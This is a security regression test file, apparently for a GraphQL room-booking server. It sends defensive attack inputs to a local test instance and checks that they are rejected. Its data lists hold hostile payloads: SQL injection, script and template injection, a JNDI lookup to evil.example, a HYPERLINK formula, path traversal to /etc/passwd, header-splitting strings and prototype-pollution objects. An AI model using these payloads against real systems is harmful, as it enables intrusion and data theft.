import { afterAll, beforeAll, expect } from 'vitest';
import type { AskOptions } from '../support/ask.ts';
import {
  type AttackedServer,
  attack,
  badInput,
  expectNothingTold,
  facts,
  startAttackedServer,
} from '../support/attacked-server.ts';
import { adminPassword, userPassword } from '../support/test-server.ts';
import { openTestSocket } from '../support/test-socket.ts';

let server: AttackedServer;
let roomId: string;
beforeAll(async () => {
  server = await startAttackedServer();
  const create =
    'mutation { createRoom(input: { name: "lab", floor: 1, groups: [STAFF] }) { id } }';
  roomId = (await asManager(create)).data.createRoom.id;
});
afterAll(() => server.stop());

const as =
  (name: 'admin' | 'manager' | 'auditor' | 'staff') =>
  (query: string, options: AskOptions = {}) =>
    server.ask(query, { token: server[name].accessToken, ...options });
const asAdmin = (query: string, options?: AskOptions) => as('admin')(query, options);
const asManager = (query: string, options?: AskOptions) => as('manager')(query, options);
const asStaff = (query: string, options?: AskOptions) => as('staff')(query, options);

const injection = 'ASVS 5 1.2.4; OWASP GraphQL: Injection Prevention';
const validation = 'ASVS 5 2.2.1; OWASP GraphQL: Input Validation';

const rename = (displayName: unknown) =>
  asStaff(
    'mutation ($id: ID!, $displayName: String!) { updateUser(id: $id, input: { displayName: $displayName }) { displayName } }',
    {
      variables: { id: server.staff.id, displayName },
    },
  );

for (const { what, text } of [
  { what: 'a NUL', text: 'a\0b' },
  { what: 'line breaks', text: 'a\r\nSet-Cookie: a=b' },
  { what: 'an escape of a terminal', text: '\u001b[2J' },
  { what: 'half a surrogate pair', text: 'a\udc00' },
  { what: 'blanks alone', text: '   ' },
  { what: '201 characters', text: 'x'.repeat(201) },
  { what: 'a delete character', text: 'a\u007f' },
  { what: 'a C1 control character', text: 'a\u0085b' },
  { what: 'a turn of the direction of writing', text: 'a\u202e nimda' },
]) {
  attack(`store ${what} for a name`, validation, async () => {
    const answer = await server.unchanged(() => rename(text));
    expect(facts(answer)).toEqual(badInput);
    expect(answer.text).not.toContain('Set-Cookie');
  });
}

for (const { what, text } of [
  { what: 'a quote of SQL', text: `Robert'); DROP TABLE users;--` },
  { what: 'a script', text: '<script>alert(1)</script>' },
  { what: 'a template', text: '{{constructor.constructor("return 1")()}}' },
  { what: 'a formula', text: '=HYPERLINK("https://evil.example")' },
  { what: 'a lookup of JNDI', text: '${jndi' + ':ldap://evil.example/a}' },
  { what: 'an operator object as text', text: '{"$ne":null}' },
]) {
  attack(`store ${what} and have it run later`, 'ASVS 5 1.2; second-order injection', async () => {
    const { status, data, headers } = await rename(text);
    expect([status, data.updateUser.displayName]).toEqual([200, text]);
    expect(headers.get('content-type')).toMatch(/json/);
    const found = await asManager(
      'query ($search: String) { users(search: $search) { edges { node { id displayName } } } }',
      {
        variables: { search: text.slice(0, 200) },
      },
    );
    expect(found.data.users.edges.map(({ node }: { node: { id: string } }) => node.id)).toEqual([
      server.staff.id,
    ]);
  });
}

for (const search of ['%', '_', '\\', '%%%', `' OR 1=1 --`, '.*', '*']) {
  attack(`find everyone by searching for ${search}`, injection, async () => {
    await rename('nothing special');
    const { status, data } = await asManager(
      'query ($search: String) { users(search: $search) { edges { cursor } } }',
      { variables: { search } },
    );
    expect([status, data.users.edges]).toEqual([200, []]);
  });
}

for (const email of [
  'a@b\r\nBcc: everyone@example.org',
  'a@b, c@d',
  'no-at',
  '@',
  `${'a'.repeat(250)}@example.org`,
  'a b@c',
]) {
  attack(
    `set the e-mail address ${JSON.stringify(email.slice(0, 30))}`,
    'ASVS 5 1.2, 2.2: header injection',
    async () => {
      const query =
        'mutation ($id: ID!, $email: String) { updateUser(id: $id, input: { email: $email }, proof: { password: "x" }) { id } }';
      const answer = await server.unchanged(() =>
        asStaff(query, { variables: { id: server.staff.id, email } }),
      );
      expect(facts(answer)).toEqual(badInput);
    },
  );
}

for (const id of [
  `' OR '1'='1`,
  '../../etc/passwd',
  '%00',
  '0',
  '-1',
  '*',
  'null',
  '{"$ne":""}',
  '01900000-0000-7000-8000-00000000000g',
  'x'.repeat(10_000),
]) {
  attack(`name a room by the id ${JSON.stringify(id.slice(0, 40))}`, injection, async () => {
    const read = await asStaff('query ($id: ID!) { room(id: $id) { name } }', {
      variables: { id },
    });
    expect([read.status, read.data]).toEqual([200, { room: null }]);
    const remove = 'mutation ($id: ID!) { deleteRoom(id: $id) }';
    const removed = await server.unchanged(() => asManager(remove, { variables: { id } }));
    expect(facts(removed)).toEqual({ status: 404, code: 'NOT_FOUND' });
  });
}

for (const id of [{ $ne: null }, ['a', 'b'], true, 1.5, null]) {
  attack(`name a room by the value ${JSON.stringify(id)}`, injection, async () => {
    const answer = await server.unchanged(() =>
      asManager('mutation ($id: ID!) { deleteRoom(id: $id) }', { variables: { id } }),
    );
    expect([answer.status, answer.body.data]).toEqual([400, undefined]);
    expect(answer.text).not.toContain('$ne');
  });
}

const cursorOf = (text: string) => Buffer.from(text).toString('base64url');
for (const { what, after } of [
  { what: 'of SQL', after: cursorOf(`id:' OR 1=1 --`) },
  { what: 'without its name', after: cursorOf('01900000-0000-7000-8000-000000000000') },
  { what: 'of an offset', after: cursorOf('offset:0') },
  { what: 'of an object', after: cursorOf('{"id":{"$gt":""}}') },
  { what: 'that is not valid', after: '!!!!' },
  { what: 'that is empty', after: '' },
  { what: 'with padding', after: `${cursorOf('id:01900000-0000-7000-8000-000000000000')}=` },
  { what: 'of 10,000 characters', after: 'a'.repeat(10_000) },
]) {
  attack(`go on after a cursor ${what}`, 'API1:2023: cursor tampering', async () => {
    const query = 'query ($after: String) { rooms(after: $after) { edges { node { id } } } }';
    const answer = await asStaff(query, { variables: { after } });
    expect(facts(answer)).toEqual(badInput);
  });
}

for (const first of [
  '0',
  '-1',
  '101',
  '2147483647',
  '2147483648',
  '1.5',
  '1e3',
  '"1"',
  'true',
  '[1, 2]',
  'null',
]) {
  attack(`ask for a page of ${first}`, 'API4:2023; OWASP GraphQL: Pagination', async () => {
    const answer = await asStaff(`{ rooms(first: ${first}) { edges { cursor } } }`);
    expect(answer.status).toBe(first === 'null' ? 200 : 400);
  });
}

for (const floor of [
  Number.POSITIVE_INFINITY,
  2 ** 53,
  -(2 ** 31) - 1,
  '1',
  '1; DROP TABLE rooms',
  1.5,
  [1],
  { a: 1 },
  true,
  1001,
]) {
  attack(`build a room on floor ${JSON.stringify(floor)}`, validation, async () => {
    const query =
      'mutation ($floor: Int!) { createRoom(input: { name: "x", floor: $floor, groups: [] }) { id } }';
    const answer = await server.unchanged(() => asManager(query, { variables: { floor } }));
    expect([answer.status, answer.body.data]).toEqual([400, undefined]);
    expect(answer.text).not.toContain('DROP');
  });
}

for (const group of [
  'ROOT',
  'admin',
  '',
  'ADMIN\0',
  '__proto__',
  'constructor',
  0,
  null,
  ['ADMIN'],
  { a: 'ADMIN' },
]) {
  attack(`grant the group ${JSON.stringify(group)}`, validation, async () => {
    const query =
      'mutation ($id: ID!, $group: Group!) { grantGroup(userId: $id, group: $group) { id } }';
    const answer = await server.unchanged(() =>
      asAdmin(query, { variables: { id: server.staff.id, group } }),
    );
    expect([answer.status, answer.body.data]).toEqual([400, undefined]);
  });
}

for (const expiresAt of [
  'yesterday',
  '1970-01-01T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '2099-13-01T00:00:00Z',
  0,
  -1,
  {},
  [],
  '2099-01-01',
  "2099-01-01T00:00:00Z'; --",
]) {
  attack(`grant a group until ${JSON.stringify(expiresAt)}`, validation, async () => {
    const query =
      'mutation ($id: ID!, $at: DateTime) { grantGroup(userId: $id, group: AUDITOR, expiresAt: $at) { id } }';
    const answer = await server.unchanged(() =>
      asAdmin(query, { variables: { id: server.staff.id, at: expiresAt } }),
    );
    expect([answer.status, answer.body.data]).toEqual([400, undefined]);
  });
}

const raw = async (body: string) => {
  const { accessToken } = server.manager;
  const response = await fetch(`${server.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${accessToken}` },
    body,
  });
  return { status: response.status, body: await response.json() };
};
const create = 'mutation ($input: RoomInput!) { createRoom(input: $input) { id } }';

for (const polluted of [
  '"__proto__":{"accessCode":"polluted"}',
  '"constructor":{"prototype":{"accessCode":"polluted"}}',
]) {
  attack(
    `pollute the prototype of all objects by ${polluted.slice(0, 13)} in an input`,
    'CVE-2019-10744, CVE-2022-37734: prototype pollution',
    async () => {
      const answer = await server.unchanged(() =>
        raw(
          `{"query":"${create}","variables":{"input":{"name":"x","floor":1,"groups":[],${polluted}}}}`,
        ),
      );
      expect([answer.status, answer.body.data]).toEqual([400, undefined]);
      expect(Reflect.get({}, 'accessCode')).toBeUndefined();
    },
  );

  attack(
    `pollute the prototype of all objects by ${polluted.slice(0, 13)} beside the query`,
    'prototype pollution',
    async () => {
      const answer = await raw(`{"query":"{ __typename }",${polluted}}`);
      expect(answer.status).toBe(400);
      expect(Reflect.get({}, 'accessCode')).toBeUndefined();
    },
  );
}

attack(
  'pollute the prototype of all objects by variables in a URL',
  'prototype pollution',
  async () => {
    const variables = encodeURIComponent(
      '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
    );
    const url = `${server.url}/graphql?query={__typename}&variables=${variables}`;
    const { status } = await fetch(url, { headers: { 'apollo-require-preflight': '1' } });
    expect([status, Reflect.get({}, 'polluted')]).toEqual([200, undefined]);
  },
);

attack(
  'pollute the prototype of all objects by variables over a socket',
  'prototype pollution',
  async () => {
    const socket = openTestSocket(server.url, { token: server.manager.accessToken });
    const input = JSON.parse(
      '{"name":"x","floor":1,"groups":[],"__proto__":{"accessCode":"polluted"}}',
    );
    const sent = socket.subscribe(create, { input });
    await server.unchanged(() => sent.ended);
    await socket.close();
    expect(Reflect.get({}, 'accessCode')).toBeUndefined();
  },
);

for (const field of ['passwordHash', 'password', 'usernameKey', 'refreshTokens']) {
  attack(`select the stored ${field} of a user as ADMIN`, 'API3:2023; ASVS 5 14.2.6', async () => {
    const { status, body } = await asAdmin(`{ me { ${field} } }`);
    expect([status, body.data]).toEqual([400, undefined]);
  });
}

for (const field of ['secretHash', 'secret', 'createdById']) {
  attack(
    `select the stored ${field} of a program as ADMIN`,
    'API3:2023; ASVS 5 14.2.6',
    async () => {
      const { status, body } = await asAdmin(`{ apiClients { ${field} } }`);
      expect([status, body.data]).toEqual([400, undefined]);
    },
  );
}

for (const field of [
  'createAuditEvent(action: "login.succeeded") { id }',
  'deleteAuditEvents',
  'pruneAudit(before: "2030-01-01T00:00:00Z")',
]) {
  attack(`forge or remove audit events by ${field.split('(')[0]}`, 'ASVS 5 16.4.2', async () => {
    expect((await asAdmin(`mutation { ${field} }`)).status).toBe(400);
  });
}

attack('write another’s name into the audit log', 'ASVS 5 16.4.1: log forging', async () => {
  await asManager('mutation ($input: RoomInput!) { createRoom(input: $input) { id } }', {
    variables: { input: { name: 'by admin; command line', floor: 1, groups: [] } },
  });
  const query =
    '{ auditEvents(first: 1, action: "room.created") { edges { node { actor { ... on User { id } } detail } } } }';
  const { data } = await as('auditor')(query);
  const { actor, detail } = data.auditEvents.edges[0].node;
  expect(actor.id).toBe(server.manager.id);
  expect(detail).toBe('"by admin; command line"; floor 1; groups: none');
});

attack('find a password in the audit log', 'ASVS 5 16.2.5', async () => {
  const { data } = await as('auditor')(
    '{ auditEvents(first: 100) { edges { node { action detail } } } }',
  );
  expect(JSON.stringify(data)).not.toMatch(/violet|plum-kettle|gatehouse_|eyJ/);
});

for (const { what, query, variables } of [
  {
    what: 'a variable',
    query: 'mutation ($p: Int!) { logout }',
    variables: { p: 'hunter2-in-a-variable' },
  },
  {
    what: 'an enum',
    query: 'query ($g: Group!) { __typename }',
    variables: { g: 'hunter2-in-an-enum' },
  },
  {
    what: 'an input object',
    query: create,
    variables: { input: { name: 'hunter2', floor: 'hunter2', groups: [] } },
  },
  {
    what: 'an unknown input field',
    query: create,
    variables: { input: { name: 'x', floor: 1, groups: [], x: 'hunter2' } },
  },
  {
    what: 'a new password',
    query: `mutation ($p: String!) {
      changePassword(currentPassword: "${userPassword}", newPassword: $p) { tokenType } }`,
    variables: { p: 'hunter2' },
  },
]) {
  attack(
    `have the value of ${what} echoed`,
    'ASVS 5 16.5.1; OWASP GraphQL: Excessive Errors',
    async () => {
      const { status, text } = await asManager(query, { variables });
      expect(status).toBe(400);
      expect(text).not.toContain('hunter2');
      expect(server.logLines.join('')).not.toContain('hunter2');
    },
  );
}

attack('split an answer by what is sent', 'response splitting (CWE-113)', async () => {
  const { headers } = await asStaff('query A { me { id } }', {
    operationName: 'A',
    headers: { 'x-request-id': 'mine', prefer: 'handling="lenient%0d%0aset-cookie: a=b"' },
  });
  expect(headers.get('set-cookie')).toBeNull();
  expect(headers.get('x-request-id')).not.toBe('mine');
});

attack(
  'have an answer to one viewer kept for another',
  'ASVS 5 14.3.2: cache poisoning',
  async () => {
    for (const query of ['{ me { id } }', '{ serverInfo { name } }', '{ users { __typename } }']) {
      const { headers } = await asStaff(query, { headers: { 'x-forwarded-host': 'evil.example' } });
      expect(headers.get('cache-control')).toBe('no-store');
    }
  },
);

attack(
  'enter a room twenty times at once, and have another number recorded',
  'ASVS 5 2.3.4: race',
  async () => {
    const before = await server.rooms.roomEntry.count();
    const enter = `mutation { enterRoom(id: "${roomId}") { id } }`;
    const answers = await Promise.all(Array.from({ length: 20 }, () => asStaff(enter)));
    // A database that is busy may have kept some of them waiting for too long.
    const done = answers.filter(({ status }) => status === 200).length;
    expect(answers.filter(({ status }) => status !== 200 && status !== 503)).toEqual([]);
    expect(await server.rooms.roomEntry.count()).toBe(before + done);
  },
);

attack(
  'find a secret in the answers and the log after all of this',
  'ASVS 5 16.2.5, 16.5.1',
  async () => {
    expectNothingTold(server, [adminPassword, userPassword, 'hunter2']);
  },
);
